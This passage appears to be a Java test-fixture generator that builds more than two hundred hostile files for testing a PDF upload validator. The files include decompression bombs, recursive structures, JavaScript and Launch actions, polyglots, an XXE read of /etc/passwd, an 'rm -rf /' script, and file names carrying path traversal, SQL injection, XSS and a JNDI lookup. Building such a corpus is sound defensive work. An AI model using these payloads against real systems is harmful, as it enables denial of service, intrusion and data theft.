@@ -1,0 +1,962 @@
+package cn.zhishen.document;
+
+import cn.zhishen.document.UnacceptableUpload.Reason;
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.io.UncheckedIOException;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Collections;
+import java.util.EnumSet;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.Random;
+import java.util.Set;
+import java.util.function.Consumer;
+import java.util.regex.Pattern;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+import java.util.zip.CRC32;
+import java.util.zip.Deflater;
+import java.util.zip.DeflaterOutputStream;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import org.apache.pdfbox.Loader;
+import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSString;
+import org.apache.pdfbox.filter.FilterFactory;
+import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
+import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
+
+/** More than two hundred files that somebody might upload to do harm, the same ones for the same seed. */
+public final class HostileFiles {
+
+    private static final int MEGABYTE = 1 << 20;
+    private static final String CATALOG = "<</Type/Catalog/Pages 2 0 R>>";
+    private static final String PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
+    private static final String PAGE =
+            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources 5 0 R>>";
+
+    private final Random random;
+    private final byte[] form = SampleForm.print();
+    private final List<HostileFile> files = new ArrayList<>();
+    private final byte[] zeros = deflated(180 * MEGABYTE);
+
+    private HostileFiles(long seed) {
+        random = new Random(seed);
+    }
+
+    /**
+     * @param kind what sort of attack it is
+     * @param reasons with which it must be refused; empty for what may also be let in as a harmless file that is no scan
+     */
+    public record HostileFile(String kind, String name, String fileName, byte[] content, Set<Reason> reasons) {
+
+        @Override
+        public String toString() {
+            return kind + ": " + name;
+        }
+    }
+
+    public static List<HostileFile> of(long seed) {
+        var made = new HostileFiles(seed);
+        made.fuzzed();
+        made.bombs();
+        made.structures();
+        made.encrypted();
+        made.active();
+        made.otherTypes();
+        made.polyglots();
+        made.fileNames();
+        return List.copyOf(made.files);
+    }
+
+    private void fuzzed() {
+        var compressed = saved(form, CompressParameters.DEFAULT_COMPRESSION);
+        var plain = saved(form, CompressParameters.NO_COMPRESSION);
+        for (int i = 0; i < 45; i++) {
+            var bytes = (i % 2 == 0 ? plain : compressed).clone();
+            int flips = 1 << random.nextInt(10);
+            for (int flip = 0; flip < flips; flip++) {
+                bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
+            }
+            either("fuzzed", "%d bits flipped".formatted(flips), bytes);
+        }
+        for (int i = 0; i < 20; i++) {
+            var bytes = i % 2 == 0 ? plain : compressed;
+            int kept = random.nextInt(bytes.length);
+            either("truncated", "at %d of %d".formatted(kept, bytes.length), Arrays.copyOf(bytes, kept));
+        }
+        for (int i = 0; i < 10; i++) {
+            var bytes = i % 2 == 0 ? plain : compressed;
+            int kept = bytes.length / 10 + random.nextInt(bytes.length * 8 / 10);
+            either(
+                    "truncated",
+                    "with an end at %d".formatted(kept),
+                    concat(Arrays.copyOf(bytes, kept), text("\n%%EOF\n")));
+        }
+        for (int i = 0; i < 15; i++) {
+            either("swapped", "objects, " + i, renumbered(plain));
+        }
+        for (int i = 0; i < 15; i++) {
+            either("lied", "about lengths, " + i, withWrongLengths(i % 2 == 0 ? plain : compressed));
+        }
+    }
+
+    private byte[] renumbered(byte[] pdf) {
+        var all = latin(pdf);
+        var heads = Pattern.compile("\\n(\\d+) 0 obj");
+        var numbers = heads.matcher(all)
+                .results()
+                .map(found -> found.group(1))
+                .collect(Collectors.toCollection(ArrayList::new));
+        Collections.shuffle(numbers, random);
+        var next = numbers.iterator();
+        return bytes(heads.matcher(all).replaceAll(found -> "\n" + next.next() + " 0 obj"));
+    }
+
+    private byte[] withWrongLengths(byte[] pdf) {
+        return bytes(
+                Pattern.compile("/Length (\\d+)").matcher(latin(pdf)).replaceAll(found -> switch (random.nextInt(4)) {
+                    case 0 -> "/Length " + Long.MAX_VALUE;
+                    case 1 -> "/Length -1";
+                    case 2 -> "/Length " + Integer.parseInt(found.group(1)) / 2;
+                    default -> "/Length " + (Integer.parseInt(found.group(1)) + random.nextInt(10000));
+                }));
+    }
+
+    private void bombs() {
+        bomb("Flate", page("/Filter/FlateDecode", zeros));
+        var headless = zeros.clone();
+        headless[0] = 0;
+        headless[1] = 0;
+        bomb("Flate without its head", page("/Filter/FlateDecode", headless));
+        bomb("Flate under an escaped name", page("/Filter/F#6cateDecode", zeros));
+        bomb("Flate in Flate", page("/Filter[/FlateDecode/FlateDecode]", deflated(zeros)));
+        bomb("Flate in Flate in Flate", page("/Filter[/Fl/Fl/Fl]", deflated(deflated(zeros))));
+        bomb(
+                "Flate named elsewhere",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("/Filter 6 0 R", zeros)
+                                .object("<<>>")
+                                .object("/FlateDecode")
+                                .build());
+        bomb("Flate in ASCII hexadecimal", page("/Filter[/ASCIIHexDecode/FlateDecode]", hex(zeros)));
+        bomb("Flate in ASCII 85", page("/Filter[/ASCII85Decode/FlateDecode]", ascii85(zeros)));
+        bomb("run lengths", page("/Filter/RunLengthDecode", runs(40 * MEGABYTE)));
+        bomb("run lengths in Flate", page("/Filter[/FlateDecode/RunLengthDecode]", deflated(runs(150 * MEGABYTE))));
+        bomb("LZW", page("/Filter/LZWDecode", lzw(12)));
+        bomb("LZW in Flate", page("/Filter[/FlateDecode/LZWDecode]", deflated(lzw(12))));
+        either("bomb", "filters without end", page("/Filter[" + "/FlateDecode".repeat(5000) + "]", zeros));
+        for (var kind : List.of(
+                "/Type/XObject/Subtype/Form/BBox[0 0 1 1]",
+                "/Type/Metadata/Subtype/XML",
+                "/Subtype/Type1C",
+                "/Length1 100")) {
+            bomb(
+                    "Flate as " + kind,
+                    new RawPdf(CATALOG, PAGES, PAGE)
+                            .stream("", new byte[0]).object("<</XObject<</A 6 0 R>>>>").stream(
+                                            kind + "/Filter/FlateDecode", zeros)
+                                    .build());
+        }
+        bomb(
+                "a small picture",
+                image("/Width 10/Height 10/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", zeros));
+        bomb(
+                "a huge picture",
+                image(
+                        "/Width 100000/Height 100000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
+                        deflated(new byte[10])));
+        bomb(
+                "a huge mask",
+                image("/Width 2147483647/Height 2147483647/ImageMask true/BitsPerComponent 1", new byte[10]));
+        bomb(
+                "a fax of a kilometre",
+                image(
+                        "/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 100000/Rows 2000000>>",
+                        new byte[100]));
+        bomb(
+                "a JPEG larger than it says",
+                image(
+                        "/Width 10/Height 10/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode",
+                        jpegHead(65000, 65000, 0xc0)));
+        bomb(
+                "a JPEG of a thousand passes",
+                image(
+                        "/Width 100/Height 100/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode",
+                        concat(jpegHead(5000, 5000, 0xc2), passes(1000))));
+        bomb(
+                "a JBIG2 page",
+                image(
+                        "/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode",
+                        jbig2(48, 200000, 200000)));
+        bomb(
+                "a JBIG2 region",
+                image(
+                        "/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode",
+                        concat(jbig2(48, 100, 100), jbig2(38, 2000000000, 2000000000))));
+        bomb(
+                "JBIG2 globals",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("/I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
+                                        "/Type/XObject/Subtype/Image/Width 10/Height 10/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode/DecodeParms<</JBIG2Globals 7 0 R>>",
+                                        jbig2(48, 10, 10))
+                                .stream("/Filter/FlateDecode", zeros)
+                                .build());
+        bomb(
+                "a row without end",
+                page(
+                        "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 4>>",
+                        deflated(new byte[1000])));
+        var inline = concat(text("BI /W 10 /H 10 /CS /G /BPC 8 /F /Fl ID "), zeros, text("\nEI\n"));
+        bomb("a picture among the instructions", page("", inline));
+        bomb("pictures among packed instructions", page("/Filter/FlateDecode", deflated(inline)));
+        bomb(
+                "an object stream",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0]).object("<</A 9 0 R>>").stream(
+                                        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zeros)
+                                .inStream(9, 6)
+                                .buildWithStream());
+        bomb(
+                "an object stream of arrays",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0]).object("<</A 9 0 R>>").stream(
+                                        "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
+                                        deflated(text("9 0 [" + "[]".repeat(3_000_000) + "]")))
+                                .inStream(9, 6)
+                                .buildWithStream());
+        bomb(
+                "a plain object stream of arrays",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0]).object("<</A 9 0 R>>").stream(
+                                        "/N 1/First 4", text("9 0 [" + "[]".repeat(1_000_000) + "]"))
+                                .inStream(9, 6)
+                                .buildWithStream());
+        bomb(
+                "a cross-reference stream",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .xref("/W[1 4 2]/Index[0 100000000]/Filter/FlateDecode", deflated(180 * MEGABYTE)));
+        bomb(
+                "cross-references of no bytes",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0]).xref("/W[0 0 0]/Index[0 1000000000000]", new byte[10]));
+        bomb(
+                "a million cross-references",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .xref(
+                                        "/W[1 1 1]/Index[0 2000000]/Filter/FlateDecode",
+                                        deflated(filled(3 * 2_000_000, 1))));
+        bomb(
+                "an array of millions",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<</A[" + "1 ".repeat(5_000_000) + "]>>")
+                                .build());
+        bomb(
+                "dictionaries by the million",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<</A[" + "<<>>".repeat(3_000_000) + "]>>")
+                                .build());
+        bomb("larger than allowed", concat(form, filled(61 * MEGABYTE, ' ')));
+        hostile(
+                "bomb",
+                "a hundred thousand pages",
+                EnumSet.of(Reason.TOO_MANY_PAGES),
+                new RawPdf(CATALOG, "<</Type/Pages/Kids[" + "3 0 R ".repeat(100_000) + "]/Count 100000>>", PAGE)
+                        .stream("", new byte[0]).object("<<>>").build());
+        hostile("bomb", "more pages than allowed", EnumSet.of(Reason.TOO_MANY_PAGES), pagesOf(101));
+        bomb("pages that multiply", multiplying());
+        var levels = new RawPdf(CATALOG, PAGES, PAGE).stream("", text("/F6 Do")).object("<</XObject<</F6 6 0 R>>>>");
+        for (int n = 6; n < 46; n++) {
+            levels.stream(
+                    "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</F" + (n + 1) + " " + (n + 1)
+                            + " 0 R>>>>",
+                    text(("/F" + (n + 1) + " Do ").repeat(2)));
+        }
+        hostile(
+                "bomb",
+                "forms that multiply",
+                EnumSet.allOf(Reason.class),
+                levels.stream("/Type/XObject/Subtype/Form/BBox[0 0 1 1]", text("0 0 1 1 re f"))
+                        .build());
+    }
+
+    /** Each level has ten of the next: ten to the ninth pages. */
+    private static byte[] multiplying() {
+        var pdf = new RawPdf(CATALOG, "<</Type/Pages/Count 1000000000/Kids[" + "3 0 R ".repeat(10) + "]>>");
+        for (int n = 3; n < 11; n++) {
+            pdf.object("<</Type/Pages/Parent 2 0 R/Count 1000000/Kids[" + ((n + 1) + " 0 R ").repeat(10) + "]>>");
+        }
+        return pdf.object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>").build();
+    }
+
+    private void structures() {
+        damaged(
+                "a page tree that is its own child",
+                new RawPdf(CATALOG, "<</Type/Pages/Kids[2 0 R]/Count 1>>").build());
+        damaged(
+                "a page tree in a circle",
+                new RawPdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>")
+                        .build());
+        var deep = new RawPdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>");
+        for (int n = 3; n < 20_000; n++) {
+            deep.object("<</Type/Pages/Parent " + (n - 1) + " 0 R/Count 1/Kids[" + (n + 1) + " 0 R]>>");
+        }
+        damaged(
+                "a page tree of twenty thousand levels",
+                deep.object("<</Type/Page/Parent 2 0 R>>").build());
+        for (var count : List.of("-1", "0", "2", "2147483647", "99999999999", "(1)")) {
+            refused(
+                    "structure",
+                    "a stated number of pages of " + count,
+                    new RawPdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count " + count + ">>", PAGE)
+                            .stream("", new byte[0]).object("<<>>").build());
+        }
+        either(
+                "structure",
+                "arrays in arrays",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<</A " + "[".repeat(200_000) + "]".repeat(200_000) + ">>")
+                                .build());
+        either(
+                "structure",
+                "dictionaries in dictionaries",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<</A".repeat(200_000) + " 1" + ">>".repeat(200_000))
+                                .build());
+        either(
+                "structure",
+                "arrays that are not closed",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0]).object("[".repeat(1_000_000)).build());
+        damaged("colours of colours without end", colours("[/Indexed 6 0 R 1 <000000FFFFFF>]"));
+        damaged(
+                "a profile that replaces itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("/C cs 0 0 1 1 re f")).object("<</ColorSpace<</C[/ICCBased 6 0 R]>>>>").stream(
+                                        "/N 3/Alternate[/ICCBased 6 0 R]", new byte[10])
+                                .build());
+        var chain = new RawPdf(CATALOG, PAGES, PAGE)
+                .stream("", text("/C cs 0 0 1 1 re f")).object("<</ColorSpace<</C 6 0 R>>>>");
+        for (int n = 6; n < 5000; n++) {
+            chain.object("[/Indexed " + (n + 1) + " 0 R 1 <000000FFFFFF>]");
+        }
+        damaged("colours of colours, five thousand", chain.object("/DeviceRGB").build());
+        damaged(
+                "a mask of itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("/I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
+                                        "/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 6 0 R",
+                                        new byte[1])
+                                .build());
+        damaged(
+                "functions of themselves",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("/S sh"))
+                                .object(
+                                        "<</Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 1 1]/Function 6 0 R>>>>>>")
+                                .object(
+                                        "<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>")
+                                .build());
+        damaged(
+                "a font of itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("BT /F 1 Tf (a) Tj ET"))
+                                .object("<</Font<</F 6 0 R>>>>")
+                                .object(
+                                        "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]>>")
+                                .build());
+        either(
+                "structure",
+                "a form that draws itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("/A Do")).object("<</XObject<</A 6 0 R>>>>").stream(
+                                        "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources 5 0 R", text("/A Do"))
+                                .build());
+        either(
+                "structure",
+                "a letter that writes itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("BT /F 12 Tf (a) Tj ET"))
+                                .object("<</Font<</F 6 0 R>>>>")
+                                .object(
+                                        "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources 5 0 R>>")
+                                .stream("", text("9 0 d0 BT /F 12 Tf (a) Tj ET"))
+                                .build());
+        either(
+                "structure",
+                "a pattern painted with itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", text("/Pattern cs /P scn 0 0 500 500 re f"))
+                                .object("<</Pattern<</P 6 0 R>>>>")
+                                .stream(
+                                        "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources 5 0 R",
+                                        text("/Pattern cs /P scn 0 0 9 9 re f"))
+                                .build());
+        either(
+                "structure",
+                "a length that is its own stream",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .raw("<</Length 4 0 R>>\nstream\nabc\nendstream")
+                        .object("<<>>")
+                        .build());
+        var lengths = new RawPdf(CATALOG, PAGES, PAGE);
+        for (int n = 4; n < 10_000; n++) {
+            lengths.raw("<</Length " + (n + 1) + " 0 R>>\nstream\na\nendstream");
+        }
+        damaged("lengths of lengths", lengths.object("1").build());
+        var headless = new RawPdf(CATALOG, PAGES, PAGE);
+        for (int n = 4; n < 5000; n++) {
+            headless.raw("<<>>\nstream\n");
+        }
+        either("structure", "streams that do not end", headless.build());
+        either(
+                "structure",
+                "cross-references in a circle",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<<>>")
+                                .trailer("/Prev 9")
+                                .build());
+        either(
+                "structure",
+                "a cross-reference to nowhere",
+                bytes(latin(form).replaceAll("startxref\\s+\\d+", "startxref\n999999999")));
+        refused(
+                "structure",
+                "no catalog",
+                new RawPdf("<<>>", PAGES, PAGE)
+                        .stream("", new byte[0]).trailer("/Root 9 0 R").build());
+        refused("structure", "a catalog that is an array", new RawPdf("[1 2 3]", PAGES, PAGE).build());
+        refused("structure", "no pages", new RawPdf(CATALOG, "<</Type/Pages/Kids[]/Count 0>>").build());
+        either(
+                "structure",
+                "an object stream that holds itself",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<</A 6 0 R>>")
+                                .inStream(6, 6)
+                                .buildWithStream());
+        for (var box : List.of(
+                "[0 0 0 0]", "[0 0 1e30 1e30]", "[0 0 -1 -1]", "[NaN 0 1 1]", "(a)", "[0 0 14400000 14400000]")) {
+            either(
+                    "structure",
+                    "a sheet of " + box,
+                    new RawPdf(CATALOG, PAGES, "<</Type/Page/Parent 2 0 R/MediaBox" + box + "/Contents 4 0 R>>")
+                            .stream("", text("0 0 9 9 re f")).build());
+        }
+        for (var unit : List.of("1e30", "-1", "0")) {
+            either(
+                    "structure",
+                    "a unit of " + unit,
+                    new RawPdf(
+                                    CATALOG,
+                                    PAGES,
+                                    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/UserUnit " + unit
+                                            + "/Contents 4 0 R>>")
+                            .stream("", text("0 0 9 9 re f")).build());
+        }
+        either("structure", "brackets without end among the instructions", page("", text("q ".repeat(500_000))));
+        either("structure", "numbers without end among the instructions", page("", text("1 ".repeat(2_000_000))));
+        either("structure", "arrays in arrays among the instructions", page("", text("[".repeat(300_000))));
+    }
+
+    private static byte[] colours(String space) {
+        return new RawPdf(CATALOG, PAGES, PAGE)
+                .stream("", text("/C cs 0 0 1 1 re f"))
+                        .object("<</ColorSpace<</C 6 0 R>>>>")
+                        .object(space)
+                        .build();
+    }
+
+    private void encrypted() {
+        for (int bits : new int[] {40, 128, 256}) {
+            for (var user : List.of("", "secret")) {
+                hostile(
+                        "encrypted",
+                        bits + " bits, user password “" + user + "”",
+                        EnumSet.of(Reason.ENCRYPTED),
+                        locked(bits, user));
+            }
+        }
+        refused(
+                "encrypted",
+                "in an unknown way",
+                new RawPdf(CATALOG, PAGES, PAGE)
+                        .stream("", new byte[0])
+                                .object("<</Filter/Unknown/V 9>>")
+                                .trailer("/Encrypt 5 0 R/ID[<00><00>]")
+                                .build());
+    }
+
+    private byte[] locked(int bits, String user) {
+        try (var document = Loader.loadPDF(form);
+                var out = new ByteArrayOutputStream()) {
+            var policy = new StandardProtectionPolicy("owner", user, new AccessPermission());
+            policy.setEncryptionKeyLength(bits);
+            document.protect(policy);
+            document.save(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private void active() {
+        var script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
+        catalog("a script on opening", "/OpenAction " + script);
+        catalog("a script on opening, elsewhere", "/OpenAction 6 0 R", script);
+        catalog("a script under an escaped name", "/OpenAction<</#53/Jav#61Script/#4a#53(1)>>");
+        catalog("named scripts", "/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", script);
+        catalog("a script on closing", "/AA<</WC " + script + ">>");
+        catalog("a form that scripts", "/AcroForm<</Fields[]/XFA[(a)(b)]>>");
+        catalog("an XFA form", "/AcroForm<</Fields[]/XFA 6 0 R>>", "<</A 1>>");
+        catalog("an embedded file", "/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>", "<</Type/Filespec/F(a.exe)>>");
+        catalog("an associated file", "/AF[6 0 R]", "<</Type/Filespec/F(a.exe)>>");
+        for (var action : List.of(
+                "Launch/F(cmd.exe)",
+                "GoToR/F(\\\\\\\\host\\\\share\\\\a.pdf)/D[0/Fit]",
+                "GoToE/D[0/Fit]",
+                "SubmitForm/F(http://example.org)",
+                "ImportData/F(a.fdf)",
+                "Rendition/OP 0",
+                "Movie/T(a)",
+                "Sound",
+                "RichMediaExecute",
+                "GoTo3DView")) {
+            catalog("on opening " + action.replaceAll("/.*", ""), "/OpenAction<</S/" + action + ">>");
+            activePage(
+                    "on clicking " + action.replaceAll("/.*", ""),
+                    "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/" + action + ">>>>]");
+        }
+        activePage("a script on turning the page", "/AA<</O " + script + ">>");
+        activePage(
+                "a file pinned to the page",
+                "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>>>]");
+        activePage("a film", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]");
+        activePage(
+                "a chain of actions",
+                "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>]>>>>]");
+        hostile("active", "a script in an object stream", EnumSet.of(Reason.ACTIVE_CONTENT), scriptInStream());
+    }
+
+    private byte[] scriptInStream() {
+        try (var document = Loader.loadPDF(form);
+                var out = new ByteArrayOutputStream()) {
+            var action = new COSDictionary();
+            action.setItem(COSName.S, COSName.getPDFName("JavaScript"));
+            action.setItem(COSName.getPDFName("JS"), new COSString("app.alert(1)"));
+            document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("OpenAction"), action);
+            document.save(out, CompressParameters.DEFAULT_COMPRESSION);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private void catalog(String name, String entries, String... further) {
+        var pdf = new RawPdf("<</Type/Catalog/Pages 2 0 R" + entries + ">>", PAGES, PAGE)
+                .stream("", text("0 0 9 9 re f")).object("<<>>");
+        List.of(further).forEach(pdf::object);
+        hostile("active", name, EnumSet.of(Reason.ACTIVE_CONTENT), pdf.build());
+    }
+
+    private void activePage(String name, String entries) {
+        hostile(
+                "active",
+                name,
+                EnumSet.of(Reason.ACTIVE_CONTENT),
+                new RawPdf(CATALOG, PAGES, PAGE.substring(0, PAGE.length() - 2) + entries + ">>")
+                        .stream("", text("0 0 9 9 re f"))
+                                .object("<<>>")
+                                .object("<</S/JavaScript/JS(1)>>")
+                                .build());
+    }
+
+    private void otherTypes() {
+        wrongType("nothing", new byte[0]);
+        wrongType("HTML", text("<!doctype html><script>alert(1)</script>"));
+        wrongType("SVG", text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
+        wrongType("XML with entities", text("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"));
+        wrongType("a ZIP", zip());
+        wrongType("a program for Windows", concat(text("MZ"), random(2000)));
+        wrongType("a program for Linux", concat(new byte[] {0x7f, 'E', 'L', 'F'}, random(2000)));
+        wrongType("a PNG", png());
+        wrongType("a JPEG", jpegHead(100, 100, 0xc0));
+        wrongType("a TIFF", concat(text("II*\0"), random(500)));
+        wrongType("a GIF", concat(text("GIF89a"), random(500)));
+        wrongType("noise", random(5000));
+        wrongType("a script", text("#!/bin/sh\nrm -rf /\n"));
+        wrongType("PostScript", text("%!PS-Adobe-3.0\n(a) run\n%%EOF\n"));
+        refused("type", "a head alone", text("%PDF-1.7"));
+        refused("type", "head and end alone", text("%PDF-1.7\n%%EOF\n"));
+        refused("type", "head, noise, end", concat(text("%PDF-1.7\n"), random(5000), text("\n%%EOF\n")));
+        refused(
+                "type",
+                "a form data file",
+                text("%FDF-1.2\n1 0 obj<</FDF<</F(a.pdf)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
+    }
+
+    private void polyglots() {
+        wrongType("HTML before a PDF", concat(text("<html><script>alert(1)</script><!--"), form));
+        wrongType("a ZIP before a PDF", concat(zip(), form));
+        wrongType("a PNG before a PDF", concat(png(), form));
+        wrongType("a program before a PDF", concat(text("MZ\0\0"), form));
+        wrongType("a script before a PDF", concat(text("#!/bin/sh\nexit\n"), form));
+        refused("polyglot", "a ZIP behind a PDF", concat(form, zip()));
+        refused("polyglot", "HTML behind a PDF", concat(form, text("<html><script>alert(1)</script>")));
+    }
+
+    private void fileNames() {
+        var names = List.of(
+                "../../../../etc/passwd",
+                "..\\..\\windows\\win.ini",
+                "C:\\con.pdf",
+                "/etc/cron.d/a",
+                "a\r\nSet-Cookie: x=1",
+                "a".repeat(300) + ".pdf",
+                "表".repeat(300) + ".pdf",
+                "scan\u202efdp.exe",
+                "a\u0000.pdf",
+                "<img src=x onerror=alert(1)>.pdf",
+                "'; drop table document; --.pdf",
+                "${jndi:ldap://example.org/a}.pdf",
+                "%2e%2e%2fa.pdf",
+                ".");
+        for (int i = 0; i < names.size(); i++) {
+            var content = i % 2 == 0 ? text("<html>") : page("", text("0 0 9 9 re f"));
+            files.add(new HostileFile(
+                    "name",
+                    "number " + (i + 1),
+                    names.get(i),
+                    content,
+                    i % 2 == 0 ? EnumSet.of(Reason.NOT_A_PDF) : Set.of()));
+        }
+    }
+
+    private void bomb(String name, byte[] content) {
+        hostile("bomb", name, EnumSet.of(Reason.TOO_LARGE, Reason.TOO_MANY_PAGES, Reason.DAMAGED), content);
+    }
+
+    private void damaged(String name, byte[] content) {
+        hostile("structure", name, EnumSet.of(Reason.DAMAGED), content);
+    }
+
+    private void wrongType(String name, byte[] content) {
+        hostile("type", name, EnumSet.of(Reason.NOT_A_PDF), content);
+    }
+
+    private void refused(String kind, String name, byte[] content) {
+        hostile(kind, name, EnumSet.allOf(Reason.class), content);
+    }
+
+    private void either(String kind, String name, byte[] content) {
+        hostile(kind, name, Set.of(), content);
+    }
+
+    private void hostile(String kind, String name, Set<Reason> reasons, byte[] content) {
+        files.add(new HostileFile(kind, name, "a.pdf", content, reasons));
+    }
+
+    private static byte[] page(String entries, byte[] content) {
+        return new RawPdf(CATALOG, PAGES, PAGE)
+                .stream(entries, content).object("<<>>").build();
+    }
+
+    private static byte[] image(String entries, byte[] content) {
+        return new RawPdf(CATALOG, PAGES, PAGE)
+                .stream("", text("595 0 0 842 0 0 cm /I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
+                                "/Type/XObject/Subtype/Image" + entries, content)
+                        .build();
+    }
+
+    private static byte[] pagesOf(int count) {
+        try (var document = new PDDocument();
+                var out = new ByteArrayOutputStream()) {
+            IntStream.range(0, count).forEach(n -> document.addPage(new PDPage()));
+            document.save(out);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static byte[] saved(byte[] pdf, CompressParameters how) {
+        try (var document = Loader.loadPDF(pdf);
+                var out = new ByteArrayOutputStream()) {
+            document.save(out, how);
+            return out.toByteArray();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static byte[] deflated(int zeros) {
+        return deflated(out -> {
+            var piece = new byte[MEGABYTE];
+            for (int left = zeros; left > 0; left -= piece.length) {
+                write(out, piece);
+            }
+        });
+    }
+
+    private static byte[] deflated(byte[] content) {
+        return deflated(out -> write(out, content));
+    }
+
+    private static byte[] deflated(Consumer<OutputStream> content) {
+        var out = new ByteArrayOutputStream();
+        try (var deflater = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_SPEED))) {
+            content.accept(deflater);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] runs(int zeros) {
